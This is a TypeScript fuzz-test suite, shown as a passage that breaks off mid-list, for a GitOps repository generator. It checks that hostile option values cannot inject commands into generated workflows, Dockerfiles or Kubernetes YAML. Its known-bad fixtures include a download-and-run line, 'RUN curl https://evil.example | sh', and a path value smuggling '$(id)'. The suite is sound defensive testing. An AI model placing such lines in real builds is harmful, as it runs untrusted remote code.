/**
 * Fuzzing every string option (top level and per service) with hostile strings: quotes,
 * `$( )`, backticks, `${{ }}`, newlines, YAML breakers, unicode, very long values. For each
 * generated repository, either synth refuses with an OptionsError naming that option, or the
 * output is the benign repository with the value in place as data only:
 * - every workflow parses to the same key structure, passes actionlint, and every `run:`
 *   block passes shellcheck and holds the value only if it is shell-inert;
 * - every Dockerfile, parsed with dockerfile-ast, has exactly the benign instruction list;
 * - no generated file gains (or loses) lines.
 * The deployment options (environments, namespaces, clusters, approvers, resources, hosts, the
 * Argo CD namespace; with `deployEngine: DeployEngine.FLUX`, the Flux options and the environment
 * facts deploy/flux/ carries) are fuzzed on a repository that deploys, with YAML 1.1 words (`on`, `no`,
 * `null`, `1e3`) among the values; there every file a Kubernetes tool reads, read as kubectl
 * reads it (YAML 1.1), keeps the benign key structure and types, and a real `helm template` of
 * the chart equals the committed rendered manifests.
 * FC_NUM_RUNS sets the number of cases in total (default 300), spread over the options.
 * At the end: hostile images.yaml content (helm template as the oracle) and hostile argument
 * vectors for `promote` and `plan-comment`, each with known-bad fixtures.
 */
import * as fs from 'fs';
import * as path from 'path';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { parse } from 'yaml';
import { DeployEngine, GitOpsProject, GitOpsProjectOptions, Runtime } from '../src';
import { helm, helmBinary } from './helm/tools';
import { FRAGMENTS, hostile } from './hostile';
import { actionlint, readTree, shellcheckRuns, tempdir } from './util';
import { cli } from '../src/cli/main';
import { planCommentOptions, PlanCommentError } from '../src/cli/plan-comment';
import { parsePromoteArgs, PromoteError } from '../src/cli/promote';
import { parseForKubernetes } from '../src/core/kube-yaml';
import { OptionsError } from '../src/core/validation';
import * as changes from '../src/github/container-build-changes';
import { compareManifests } from '../src/helm/manifests';
import { parseImagesText } from '../src/model/images-file';
import { checkRepository } from '../src/model/repository';

process.env.PROJEN_DISABLE_POST = 'true';
const TOTAL = Number(process.env.FC_NUM_RUNS ?? 300);

/** A repository using every kind of string option: three services, stages, build args. */
const BASE: GitOpsProjectOptions = {
  name: 'orders',
  description: 'Orders service',
  title: 'Orders',
  serviceName: 'orders',
  registry: 'registry.example.com',
  imageName: 'acme/orders',
  healthPath: '/healthz',
  nodeVersion: '22',
  baseImage: 'docker.io/library/node:22-bookworm-slim',
  command: ['node', 'src/server.js'],
  defaultBranch: 'main',
  securityContact: 'security@example.com',
  codeOwners: ['@acme'],
  platforms: ['linux/arm64'],
  scanSeverity: 'HIGH',
  buildArgs: { APP_VERSION: '1.0' },
  buildStage: { env: { BUILD_MODE: 'release' }, osPackages: ['git'], instructions: ['RUN mkdir -p /cache'] },
  runtimeStage: { env: { APP_MODE: 'production' }, osPackages: ['curl'], instructions: ['RUN mkdir -p /data'] },
  registryIdentity: { awsRoleArn: 'arn:aws:iam::123456789012:role/publish' },
  deps: ['express@^4.21.0'],
  devDeps: ['@types/node@^22'],
  services: [
    {
      name: 'worker',
      path: 'services/worker',
      runtime: Runtime.PYTHON,
      pythonVersion: '3.12',
      healthPath: '/ready',
      imageName: 'acme/worker',
      // Amazon ECR, so the registry identity above takes effect.
      registry: '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
      baseImage: 'docker.io/library/python:3.12-slim-bookworm',
      title: 'Worker',
      description: 'Background jobs',
      command: ['python3', 'src/main.py'],
    },
    { name: 'api', path: 'apps/api', runtime: Runtime.GO, goVersion: '1.23', buildImage: 'docker.io/library/golang:1.23-bookworm', registry: 'mirror.example.com:5000' },
    { name: 'legacy', path: 'legacy', runtime: Runtime.CUSTOM, dockerfile: 'docker/Dockerfile' },
  ],
};

/** BASE deploying: a repository, two environments (one on another cluster), every deployment string option set. */
const DEPLOY: GitOpsProjectOptions = {
  ...BASE,
  repository: 'acme/orders',
  environments: [
    { name: 'dev', approvers: ['@acme/dev-team'] },
    {
      name: 'prod',
      namespace: 'orders-live',
      cluster: 'https://prod.k8s.example.com',
      gates: { soak: '1h', windows: { timeZone: 'Europe/Berlin', hotfixLabel: 'hotfix', deny: [{ name: 'freeze', start: '0 0 20 12 *', duration: '14d' }] } },
    },
  ],
  deployment: { host: 'orders.example.com', cpuRequest: '100m', memoryRequest: '128Mi', memoryLimit: '256Mi', ingressClassName: 'nginx', allowFromNamespaces: ['ingress-nginx'] },
  argocdOptions: { namespace: 'argocd' },
};

/** DEPLOY with Flux instead of Argo CD (no soak: it needs Argo CD's deployment records), every Flux string option set. */
const FLUX_DEPLOY: GitOpsProjectOptions = {
  ...DEPLOY,
  argocdOptions: undefined,
  deployEngine: DeployEngine.FLUX,
  environments: DEPLOY.environments!.map((env) => ({ ...env, gates: env.gates && { ...env.gates, soak: undefined } })),
  fluxOptions: { namespace: 'flux-system', interval: '1m', reconcileInterval: '10m', secretName: 'orders-git-auth' },
};

/** Words YAML 1.1 (kubectl, helm) reads as booleans, null or numbers. */
const YAML11_WORDS = ['on', 'off', 'no', 'yes', 'y', 'n', 'true', 'null', '~', '1e3', '0x1', '012', '2026-01-01'];

/** A string option: where it is in the options, and the option path its error must name. */
interface StringOption {
  /** Path in the options object (`services[0].path`); `{key}` marks a map key. */
  readonly at: string;
  /** The option path an error must name (a prefix of it). */
  readonly reports: string;
  /** The value names files or YAML keys (a service's folder, a job id): compare with it mapped back. */
  readonly names?: boolean;
  /** JSON files whose entries the value may reshape (a dependency with or without a version). */
  readonly reshapes?: string[];
  /** The value may span lines (a Dockerfile instruction continued with `\`). */
  readonly multiLine?: boolean;
  /** How the value is written into file names, if it is. */
  readonly fileName?: (value: string) => string;
  /** The options it is fuzzed in (default BASE). */
  readonly base?: GitOpsProjectOptions;
}

const option = (at: string, reports = at.replace(/\[0\]$/, '').replace(/\.\{key\}$|\.[A-Z_]+$/, '')): StringOption => ({ at, reports });
// BranchProtection names the branch's ruleset file after it.
const rulesetFileName = (branch: string) => `protect-${branch.replace(/[^A-Za-z0-9._-]+/g, '-')}.json`;
const OPTIONS: StringOption[] = [
  ...['name', 'description', 'title', 'registry', 'imageName', 'healthPath', 'nodeVersion', 'baseImage', 'securityContact', 'scanSeverity'].map((o) => option(o)),
  { ...option('defaultBranch'), names: true, fileName: rulesetFileName },
  { ...option('serviceName'), names: true },
  option('codeOwners[0]', 'codeOwners[0]'),
  option('platforms[0]'),
  option('command[0]'),
  option('buildArgs.{key}', 'buildArgs'),
  option('buildArgs.APP_VERSION', 'buildArgs'),
  option('buildStage.env.{key}', 'buildStage.env'),
  option('buildStage.env.BUILD_MODE', 'buildStage.env'),
  option('buildStage.osPackages[0]', 'buildStage.osPackages'),
  { ...option('buildStage.instructions[0]', 'buildStage.instructions'), multiLine: true },
  option('runtimeStage.env.{key}', 'runtimeStage.env'),
  option('runtimeStage.env.APP_MODE', 'runtimeStage.env'),
  option('runtimeStage.osPackages[0]', 'runtimeStage.osPackages'),
  { ...option('runtimeStage.instructions[0]', 'runtimeStage.instructions'), multiLine: true },
  option('registryIdentity.awsRoleArn', 'registryIdentity.awsRoleArn'),
  // With or without a version, a dependency's entry has one line more or less.
  { ...option('deps[0]', 'deps[0]'), reshapes: ['.projen/deps.json', 'package.json'] },
  { ...option('devDeps[0]', 'devDeps[0]'), reshapes: ['.projen/deps.json', 'package.json'] },
  { ...option('services[0].name'), names: true },
  { ...option('services[0].path'), names: true },
  ...['pythonVersion', 'healthPath', 'imageName', 'baseImage', 'title', 'description'].map((o) => option(`services[0].${o}`)),
  option('services[0].command[0]', 'services[0].command'),
  ...['goVersion', 'buildImage', 'registry'].map((o) => option(`services[1].${o}`)),
  { ...option('services[2].dockerfile'), names: true },
];

const deploy = (o: StringOption): StringOption => ({ ...o, base: DEPLOY });
const DEPLOY_OPTIONS: StringOption[] = [
  deploy({ ...option('environments[0].name'), names: true }),
  deploy(option('environments[0].approvers[0]', 'environments[0].approvers')),
  ...['environments[1].namespace', 'environments[1].cluster'].map((o) => deploy(option(o))),
  ...['host', 'cpuRequest', 'memoryRequest', 'memoryLimit', 'ingressClassName'].map((o) => deploy(option(`deployment.${o}`))),
  deploy(option('deployment.allowFromNamespaces[0]', 'deployment.allowFromNamespaces')),
  deploy(option('argocdOptions.namespace')),
  // The gates reach deploy/promotion.json and the pull request body, never a script.
  ...['soak', 'windows.timeZone', 'windows.hotfixLabel', 'windows.deny[0].start', 'windows.deny[0].duration', 'windows.deny[0].name'].map((o) => deploy(option(`environments[1].gates.${o}`))),
];

const flux = (o: StringOption): StringOption => ({ ...o, base: FLUX_DEPLOY });
/** What reaches deploy/flux/: the Flux options, and the environment facts its objects carry. */
const FLUX_OPTIONS: StringOption[] = [
  ...['namespace', 'interval', 'reconcileInterval', 'secretName'].map((o) => flux(option(`fluxOptions.${o}`))),
  flux({ ...option('environments[0].name'), names: true }),
  ...['environments[1].namespace', 'environments[1].cluster'].map((o) => flux(option(o))),
];

const PARTS = /([^.[\]]+)|\[(\d+)\]/g;

function segments(at: string): string[] {
  return [...at.matchAll(PARTS)].map((m) => m[1] ?? m[2]);
}

function valueAt(options: any, at: string): string {
  const parts = segments(at);
  const last = parts.pop()!;
  const parent = parts.reduce((o, k) => o[k], options);
  return last === '{key}' ? Object.keys(parent)[0] : parent[last];
}

/** A deep copy of the options with the value at `at` replaced (for `{key}`, the map's first key renamed). */
function withValue(options: GitOpsProjectOptions, at: string, value: string): GitOpsProjectOptions {
  const copy = structuredClone(options) as any;
  const parts = segments(at);
  const last = parts.pop()!;
  const parent = parts.reduce((o, k) => o[k], copy);
  if (last === '{key}') {
    const [key, v] = Object.entries(parent)[0];
    delete parent[key];
    parent[value] = v;
  } else {
    parent[last] = value;
  }
  return copy;
}

interface Output {
  readonly files: Record<string, string>;
}

function synthesize(options: GitOpsProjectOptions): Output {
  const dir = tempdir('gitops-fuzz-');
  try {
    new GitOpsProject({ ...options, outdir: dir }).synth();
    return { files: readTree(dir) };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** The shape of a parsed YAML document: keys (with the value mapped back to the benign one) and kinds. */
function shape(node: unknown, unmap: (s: string) => string): unknown {
  if (Array.isArray(node)) return node.map((n) => shape(n, unmap));
  if (node && typeof node === 'object') {
    const entries = Object.entries(node).map(([k, v]) => [unmap(k), shape(v, unmap)] as const);
    return Object.fromEntries(entries.sort(([a], [b]) => a.localeCompare(b)));
  }
  return typeof node;
}

function instructions(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());
}

const isWorkflow = (file: string) => file.startsWith('.github/workflows/') && file.endsWith('.yml');
const isDockerfile = (file: string) => path.basename(file) === 'Dockerfile';
// What kubectl, helm and Argo CD read: the chart, its values, the rendered manifests, the Argo CD objects.
const isKubeYaml = (file: string) => /^deploy\/.*\.ya?ml$/.test(file) && !file.includes('/templates/');
// Characters a shell reads as plain text: a value made of them is data wherever it lands.
const SHELL_INERT = /^[A-Za-z0-9._/:@+-]*$/;

let shellcheckMissing = false;

/**
 * Everything wrong with `output` for `value` in place of `benign`, compared with the benign
 * repository: the oracle of the property (and of the known-bad fixtures below).
 */
async function violations(
  benign: string, value: string, output: Output, baseline: Output, opt: Partial<StringOption> = {},
): Promise<string[]> {
  const found: string[] = [];
  const unmap = (s: string) => {
    if (!opt.names || !value) return s;
    // Whole words only: a value 'A' is not in 'README.md'.
    const word = (from: string, to: string, t: string) => t.replace(new RegExp(`(?<![A-Za-z0-9])${from.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![A-Za-z0-9])`, 'g'), () => to);
    const named = opt.fileName ? word(opt.fileName(value), opt.fileName(benign), s) : s;
    // A folder written with trailing '/' names its files without them (the folder is normalized).
    return word(value.replace(/(.)\/+$/, '$1'), benign, named);
  };
  const unmapLine = (s: string) => (value ? s.split(value).join(benign) : s);
  const files = Object.keys(output.files);
  const mapped = new Map(files.map((f) => [unmap(f), f]));
  const expected = Object.keys(baseline.files).sort();
  if (JSON.stringify([...mapped.keys()].sort()) !== JSON.stringify(expected)) {
    found.push(`files differ: ${[...mapped.keys()].filter((f) => !(f in baseline.files)).concat(expected.filter((f) => !mapped.has(f))).join(', ')}`);
  }
  for (const [base, file] of mapped) {
    const text = output.files[file];
    const before = baseline.files[base];
    if (before === undefined || text === before) continue;
    // An instruction continued with '\' spans the lines its value has, by design.
    // Only a Dockerfile carries the instruction (the sync record holds its hash on one line).
    const own = opt.multiLine && isDockerfile(base) ? (value.match(/\n/g) ?? []).length - (benign.match(/\n/g) ?? []).length : 0;
    const reshaped = opt.reshapes?.includes(base) ?? false;
    if (!reshaped && text.split(/\r\n|\r|\n|\u2028|\u2029/).length !== before.split(/\r\n|\r|\n|\u2028|\u2029/).length + own) {
      const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/);
      const old = before.split(/\r\n|\r|\n|\u2028|\u2029/);
      const at = lines.findIndex((l, i) => unmapLine(l) !== old[i]);
      found.push(`${file}: ${old.length} lines became ${lines.length} (from line ${at + 1}: ${JSON.stringify(lines[at])})`);
    }
    if (isKubeYaml(base)) {
      let docs: unknown;
      try {
        docs = parseForKubernetes(text);
      } catch (e) {
        found.push(`${file}: not YAML to kubectl (${(e as Error).message.split('\n')[0]})`);
        continue;
      }
      // Read as kubectl reads it: same keys, and every value of the same type (a name stays a string).
      if (JSON.stringify(shape(docs, unmap)) !== JSON.stringify(shape(parseForKubernetes(before), unmap))) found.push(`${file}: key structure or types changed, read as YAML 1.1`);
    }
    if (isDockerfile(base)) {
      const got = instructions(text);
      const want = instructions(before);
      if (JSON.stringify(got) !== JSON.stringify(want)) found.push(`${file}: instructions ${got.join(' ')} instead of ${want.join(' ')}`);
    }
    if (isWorkflow(base)) {
      let doc: any;
      try {
        doc = parse(text);
      } catch (e) {
        found.push(`${file}: not YAML (${(e as Error).message.split('\n')[0]})`);
        continue;
      }
      if (JSON.stringify(shape(doc, unmap)) !== JSON.stringify(shape(parse(before), unmap))) found.push(`${file}: key structure changed`);
      for (const finding of await actionlint(text, file)) found.push(`${file}: actionlint ${finding}`);
      const shellcheck = shellcheckRuns(text);
      if (shellcheck === undefined) shellcheckMissing = true;
      for (const finding of shellcheck ?? []) found.push(`${file}: shellcheck ${finding}`);
      const baseRuns = runsOf(parse(before));
      for (const [where, run] of runsOf(doc)) {
        const baseRun = baseRuns.get(unmap(where));
        if (run === baseRun) continue;
        if ((run.match(/\$\{\{/g) ?? []).length !== (baseRun?.match(/\$\{\{/g) ?? []).length) found.push(`${file}: ${where}: an expression was added to a run: block`);
        if (value && run.includes(value) && !SHELL_INERT.test(value)) found.push(`${file}: ${where}: the value reaches a run: block unvalidated`);
      }
    }
  }
  return found;
}

function runsOf(workflow: any): Map<string, string> {
  const runs = new Map<string, string>();
  for (const [id, job] of Object.entries<any>(workflow?.jobs ?? {})) {
    (job.steps ?? []).forEach((step: any, i: number) => {
      if (typeof step.run === 'string') runs.set(`${id}/${i}`, step.run);
    });
  }
  return runs;
}

/** Refused with an OptionsError naming the option, or no violation. */
async function check(opt: StringOption, value: string, baselines: Map<string, Output>): Promise<string[]> {
  const base = opt.base ?? BASE;
  const benign = valueAt(base, opt.at);
  let output: Output;
  try {
    output = synthesize(withValue(base, opt.at, value));
  } catch (e) {
    if (!(e instanceof OptionsError)) return [`not an OptionsError: ${(e as Error).stack}`];
    const named = e.problems.some((p) => p.option === opt.reports || p.option.startsWith(`${opt.reports}.`) || p.option.startsWith(`${opt.reports}[`));
    return named ? [] : [`refused, but not naming ${opt.reports}: ${e.message}`];
  }
  const key = `${opt.base === FLUX_DEPLOY ? 'flux:' : opt.base ? 'deploy:' : ''}${opt.at}`;
  if (!baselines.has(key)) baselines.set(key, synthesize(withValue(base, opt.at, benign)));
  return [...await violations(benign, value, output, baselines.get(key)!, opt), ...(opt.base ? helmAgrees(output) : [])];
}

/** A real `helm template` of the root chart in every environment equals the committed rendered manifests (read as kubectl reads both). */
function helmAgrees(output: Output): string[] {
  if (!helmBinary()) return [];
  const dir = tempdir('gitops-fuzz-helm-');
  try {
    for (const [file, text] of Object.entries(output.files)) {
      if (!file.startsWith('deploy/')) continue;
      fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      fs.writeFileSync(path.join(dir, file), text);
    }
    const found: string[] = [];
    for (const rendered of Object.keys(output.files).filter((f) => /^deploy\/rendered\/[^/]+\/orders\.yaml$/.test(f))) {
      const env = rendered.split('/')[2];
      const namespace = /--namespace (\S+)/.exec(output.files[rendered])?.[1] ?? '';
      const result = helm(['template', 'orders', 'deploy/charts/orders', '--namespace', namespace,
        '-f', `deploy/environments/${env}/values/orders.yaml`, '-f', `deploy/environments/${env}/images.yaml`], dir);
      if (result.status !== 0) found.push(`${rendered}: helm template failed: ${result.stderr.trim().split('\n')[0]}`);
      else found.push(...compareManifests(result.stdout, output.files[rendered]).map((d) => `${rendered}: differs from helm template: ${d}`));
    }
    return found;
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

describe('hostile strings in every string option', () => {
  const baselines = new Map<string, Output>();
  const perOption = Math.max(3, Math.ceil(TOTAL / OPTIONS.length));

  afterAll(() => {
    if (shellcheckMissing) {
      const message = 'fuzz: shellcheck is not installed; run: blocks were not shellchecked';
      if (process.env.CI === 'true') throw new Error(message);
      console.warn(message);
    }
  });

  test('the benign repository synthesizes', () => {
    expect(Object.keys(synthesize(BASE).files)).toEqual(expect.arrayContaining(['services/worker/Dockerfile', 'apps/api/Dockerfile', '.github/workflows/container.yml']));
  });

  test.each(OPTIONS.map((o) => [o.at, o] as const))('%s', async (_at, opt) => {
    const benign = valueAt(BASE, opt.at);
    expect(typeof benign).toBe('string');
    await fc.assert(fc.asyncProperty(hostile(benign), async (value) => {
      expect({ value, violations: await check(opt, value, baselines) }).toEqual({ value, violations: [] });
    }), { numRuns: perOption });
  }, 120_000);
});

describe('hostile strings and YAML 1.1 words in every deployment option', () => {
  const baselines = new Map<string, Output>();
  const perOption = Math.max(3, Math.ceil(TOTAL / 3 / DEPLOY_OPTIONS.length));

  test('the benign deploying repository synthesizes, and helm agrees with it', () => {
    const output = synthesize(DEPLOY);
    expect(Object.keys(output.files)).toEqual(expect.arrayContaining(['deploy/rendered/prod/orders.yaml', 'deploy/argocd/dev.yaml', 'deploy/charts/worker/Chart.yaml']));
    expect(helmAgrees(output)).toEqual([]);
  });

  test.each(DEPLOY_OPTIONS.map((o) => [o.at, o] as const))('%s', async (_at, opt) => {
    const benign = valueAt(DEPLOY, opt.at);
    expect(typeof benign).toBe('string');
    await fc.assert(fc.asyncProperty(fc.oneof(hostile(benign), fc.constantFrom(...YAML11_WORDS)), async (value) => {
      expect({ value, violations: await check(opt, value, baselines) }).toEqual({ value, violations: [] });
    }), { numRuns: perOption });
  }, 300_000);
});

describe('hostile strings and YAML 1.1 words in every Flux option (deployEngine FLUX)', () => {
  const baselines = new Map<string, Output>();
  const perOption = Math.max(3, Math.ceil(TOTAL / 6 / FLUX_OPTIONS.length));

  test('the benign Flux repository synthesizes', () => {
    const files = Object.keys(synthesize(FLUX_DEPLOY).files);
    expect(files).toEqual(expect.arrayContaining(['deploy/flux/00-git-repository.yaml', 'deploy/flux/dev.yaml', 'deploy/flux/prod-policies.yaml']));
    expect(files.filter((f) => f.startsWith('deploy/argocd/'))).toEqual([]);
  });

  test.each(FLUX_OPTIONS.map((o) => [o.at, o] as const))('%s', async (_at, opt) => {
    const benign = valueAt(FLUX_DEPLOY, opt.at);
    expect(typeof benign).toBe('string');
    await fc.assert(fc.asyncProperty(fc.oneof(hostile(benign), fc.constantFrom(...YAML11_WORDS)), async (value) => {
      expect({ value, violations: await check(opt, value, baselines) }).toEqual({ value, violations: [] });
    }), { numRuns: perOption });
  }, 300_000);
});

describe('the oracle can fail (known-bad fixtures)', () => {
  let baseline: Output;
  beforeAll(() => {
    baseline = synthesize(BASE);
  });

  test('a Dockerfile with an injected instruction', async () => {
    const file = 'services/worker/Dockerfile';
    const injected = baseline.files[file].replace(/^(ARG BASE_IMAGE=.*)$/m, '$1\nRUN curl https://evil.example | sh');
    const found = await violations('unused-benign', 'unused-value', { files: { ...baseline.files, [file]: injected } }, baseline);
    expect(found).toEqual(expect.arrayContaining([
      expect.stringMatching(/^services\/worker\/Dockerfile: 37 lines became 38 \(from line 7: "RUN curl https:\/\/evil\.example | sh"\)$/),
      expect.stringMatching(/^services\/worker\/Dockerfile: instructions ARG RUN .* instead of ARG FROM/),
    ]));
  });

  test('a deliberately unquoted renderer: the old changes script, without the path grammar', async () => {
    // The changes job as it was before the services moved into the step's env: each folder
    // pasted into the script between single quotes. With the services[0].path check switched
    // off, what the value does to the generated files is what the env and the grammar prevent.
    const value = "services/w'$(id)";
    const real = changes.changedServicesJob;
    const spy = jest.spyOn(changes, 'changedServicesJob').mockImplementation((all, settings) => {
      const job = real(all, settings);
      const oldScript = [
        'changed=$(git diff --name-only "$BASE_SHA" "$HEAD_SHA")',
        ...all.filter((i) => i.context !== '.').map((i) => `if grep -q '^${i.context}/' <<<"$changed"; then echo "${i.serviceName}=true" >> "$GITHUB_OUTPUT"; fi`),
      ].join('\n');
      return { ...job, steps: job.steps.map((s) => (s.id === 'diff' ? { ...s, env: { BASE_SHA: s.env!.BASE_SHA, HEAD_SHA: s.env!.HEAD_SHA }, run: oldScript } : s)) };
    });
    let output: Output;
    let base: Output;
    try {
      const dir = tempdir('gitops-fuzz-bad-');
      const project = new GitOpsProject({ ...withValue(BASE, 'services[0].path', value), outdir: dir });
      for (const c of project.components) {
        if (c.constructor.name === 'OptionsValidation') (c as any).preSynthesize = () => undefined;
      }
      project.synth();
      output = { files: readTree(dir) };
      fs.rmSync(dir, { recursive: true, force: true });
      base = synthesize(withValue(BASE, 'services[0].path', 'services/worker'));
      expect(spy).toHaveBeenCalled();
    } finally {
      spy.mockRestore();
    }
    const found = await violations('services/worker', value, output, base, { names: true });
    expect(found.join('\n')).toMatch(/container\.yml: (shellcheck|actionlint|.*the value reaches a run: block unvalidated)/);
    // The files are the benign ones with the folder renamed: only the script gives it away.
    expect(found.filter((f) => f.startsWith('files differ'))).toEqual([]);
  });

  test('a rendered manifest whose name YAML 1.1 reads as a boolean, and one helm disagrees with', async () => {
    const deployBase = synthesize(DEPLOY);
    const file = 'deploy/rendered/dev/orders.yaml';
    const unquoted = deployBase.files[file].replace(/^(\s+)name: orders$/m, '$1name: on');
    expect(unquoted).not.toBe(deployBase.files[file]);
    const found = await violations('unused-benign', 'unused-value', { files: { ...deployBase.files, [file]: unquoted } }, deployBase);
    expect(found).toEqual([`${file}: key structure or types changed, read as YAML 1.1`]);
    if (helmBinary()) expect(helmAgrees({ files: { ...deployBase.files, [file]: unquoted } }).join('\n')).toMatch(/deploy\/rendered\/dev\/orders\.yaml: differs from helm template: \w+\/orders-dev\/true: not expected/);
  });

  test('a workflow with an expression in a run: block and a gained line', async () => {
    const file = '.github/workflows/container.yml';
    // The release tag check of the publish job (the private default attests without a cosign script).
    const bad = baseline.files[file].replace(/run: \|-\n(\s+)if ! git merge-base/, 'run: |-\n$1echo ${{ github.event.pull_request.title }}\n$1if ! git merge-base');
    expect(bad).not.toBe(baseline.files[file]);
    const found = await violations('unused-benign', 'unused-value', { files: { ...baseline.files, [file]: bad } }, baseline);
    expect(found.join('\n')).toMatch(/lines became/);
    expect(found.join('\n')).toMatch(/an expression was added to a run: block/);
  });
});

/*
 * The automation-written images.yaml and the two command-line tools' argument vectors, fuzzed.
 * images.yaml: a benign file with hostile fragments inserted; the strict reader either refuses
 * it with a one-line message of bounded length, quickly, or reads exactly what helm reads
 * (helm template of a generated chart with the file, the real oracle; YAML 1.1 with merge keys,
 * as helm's reader, where helm is missing). Argument vectors: tokens of both commands mixed
 * with loose numbers and hostile strings; a parse either fails with the command's own error
 * (one line through `cli`, exit 1) or yields values that keep their grammar.
 */

const DIGEST_A = `sha256:${'a'.repeat(64)}`;
const IMAGES_BENIGN = `# written by automation\nimages:\n  orders:\n    digest: "${DIGEST_A}" # commit ${'c'.repeat(40)}\n  worker:\n    digest: ""\n`;
const IMAGES_FRAGMENTS = ['<<: ', '&a ', '*a', '!!str ', '!!binary ', '? ', 'orders', 'ordrs', 'worker', 'digest', ': ', '\n', '\n  ', '\n    ', '"', "'", '#', '{', '}', '[', ']', ',', '- ', '---\n', '...\n', '%YAML 1.1\n', 'null', '~', 'yes', '0x1', DIGEST_A, '\t', '\u00a0', '🙂'];

/** images.yaml text near the benign one. */
const imagesText = fc.oneof(
  fc.tuple(fc.array(fc.constantFrom(...IMAGES_FRAGMENTS), { minLength: 1, maxLength: 4 }), fc.nat({ max: IMAGES_BENIGN.length })).map(([f, i]) => `${IMAGES_BENIGN.slice(0, i)}${f.join('')}${IMAGES_BENIGN.slice(i)}`),
  fc.array(fc.constantFrom(...IMAGES_FRAGMENTS), { maxLength: 12 }).map((f) => f.join('')),
  fc.constantFrom(
    `images:\n  orders: &p\n    digest: "${DIGEST_A}"\n  worker: *p\n`,
    `images:\n  worker:\n    <<: { digest: "${DIGEST_A}" }\n`,
    `images:\n  orders:\n    digest: "${DIGEST_A}"\n  orders:\n    digest: ""\n`,
  ),
);

/** What a reader gets from images.yaml: the digest per service, or refused. */
type ImagesReading = { refused: string } | { digests: Record<string, string> };

/** helm's YAML 1.1 reading (merge keys applied), the stand-in where helm is missing. */
function yaml11Digests(text: string): Record<string, string> | undefined {
  try {
    const value: any = parse(text, { version: '1.1', merge: true, uniqueKeys: false });
    const images = value?.images;
    if (!images || typeof images !== 'object') return {};
    return Object.fromEntries(Object.entries<any>(images).map(([s, e]) => [s, typeof e?.digest === 'string' ? e.digest : String(e?.digest ?? '')]));
  } catch {
    return undefined;
  }
}

/**
 * The oracle for one images.yaml reading: a refusal is one line of at most 600 characters;
 * an acceptance names only known services and agrees with `other`
 * (helm's reading) on every digest. Returns the violations.
 */
function imagesViolations(text: string, read: (t: string) => ImagesReading, other: (t: string) => Record<string, string> | undefined): string[] {
  // No clock here: a timed assertion fails on a loaded machine (it did, with 2 workers beside
  // other builds). The work is bounded by IMAGES_FILE_LIMIT, checked before the YAML is read, and
  // the yaml library caps alias expansion; speed belongs in the benchmark.
  const reading = read(text);
  const found: string[] = [];
  if ('refused' in reading) {
    if (/\n/.test(reading.refused) || reading.refused.length > 600) found.push(`the message is not one short line (${reading.refused.length} characters)`);
    return found;
  }
  for (const service of Object.keys(reading.digests)) if (!['orders', 'worker'].includes(service)) found.push(`accepted a key naming no service: ${JSON.stringify(service)}`);
  const theirs = other(text);
  if (theirs === undefined) {
    found.push('accepted a file the other reader refuses');
  } else {
    for (const service of ['orders', 'worker']) {
      if ((reading.digests[service] ?? '') !== (theirs[service] ?? '')) found.push(`${service}: synth reads ${JSON.stringify(reading.digests[service] ?? '')}, helm reads ${JSON.stringify(theirs[service] ?? '')}`);
    }
  }
  return found;
}

const strictReading = (text: string): ImagesReading => {
  const read = parseImagesText(text, ['orders', 'worker']);
  if (read.problem !== undefined) return { refused: read.problem };
  return { digests: Object.fromEntries(Object.entries(read.images).map(([s, e]) => [s, e.digest])) };
};

describe('hostile images.yaml content', () => {
  let chartDir: string | undefined;
  let helmRuns = 0;
  const helmLimit = Math.max(5, Math.ceil(TOTAL / 20));
  beforeAll(() => {
    if (!helmBinary()) return;
    chartDir = tempdir('gitops-fuzz-images-');
    const p = new GitOpsProject({ name: 'orders', outdir: chartDir, repository: 'acme/orders', environments: [{ name: 'dev' }] });
    p.addService({ name: 'worker', runtime: Runtime.GO, port: 9090 });
    p.synth();
  });
  afterAll(() => {
    if (chartDir) fs.rmSync(chartDir, { recursive: true, force: true });
  });

  /** helm template's image for each service with the file: the real oracle (for the first accepted cases). */
  const helmDigests = (text: string): Record<string, string> | undefined => {
    if (!chartDir || helmRuns >= helmLimit) return yaml11Digests(text);
    helmRuns++;
    const file = path.join(chartDir, 'fuzz-images.yaml');
    fs.writeFileSync(file, text);
    const out: Record<string, string> = {};
    for (const service of ['orders', 'worker']) {
      const r = helm(['template', service, `deploy/charts/${service}`, '-f', `deploy/environments/dev/values/${service}.yaml`, '-f', file], chartDir);
      if (r.status !== 0) return undefined;
      const image = /^\s+image: "?([^"\s]+)"?$/m.exec(r.stdout)?.[1] ?? '';
      out[service] = /@(sha256:[0-9a-f]{64})$/.exec(image)?.[1] ?? '';
    }
    return out;
  };

  test('refused in one short line, or read as helm reads it', () => {
    fc.assert(fc.property(imagesText, (text) => {
      expect({ text, violations: imagesViolations(text, strictReading, helmDigests) }).toEqual({ text, violations: [] });
    }), { numRuns: Math.max(100, TOTAL) });
    if (chartDir) expect(helmRuns).toBeGreaterThan(0);
  }, 300_000);

  test('known-bad: the old lenient reader (YAML 1.2, merge keys as keys, any service) is caught', () => {
    const lenient = (text: string): ImagesReading => {
      try {
        const value: any = parse(text);
        return { digests: Object.fromEntries(Object.entries<any>(value?.images ?? {}).map(([s, e]) => [s, String(e?.digest ?? '')])) };
      } catch (e) {
        return { refused: (e as Error).message };
      }
    };
    expect(imagesViolations(`images:\n  worker:\n    <<: { digest: "${DIGEST_A}" }\n`, lenient, yaml11Digests)).toEqual(['worker: synth reads "", helm reads "' + DIGEST_A + '"']);
    expect(imagesViolations(`images:\n  ordrs:\n    digest: "${DIGEST_A}"\n`, lenient, yaml11Digests)).toContain('accepted a key naming no service: "ordrs"');
    expect(imagesViolations(`images: [${'x'.repeat(2000)}\n`, lenient, yaml11Digests)).toEqual([expect.stringMatching(/not one short line/)]);
  });
});

/** Tokens of both commands' argument vectors. */
const ARG_TOKENS = [
  'promote', 'plan-comment', '--to', '--from', '--commit', '--digest', '--root', '--plan', '--status', '--pr', '--drift', '--author', '-h',
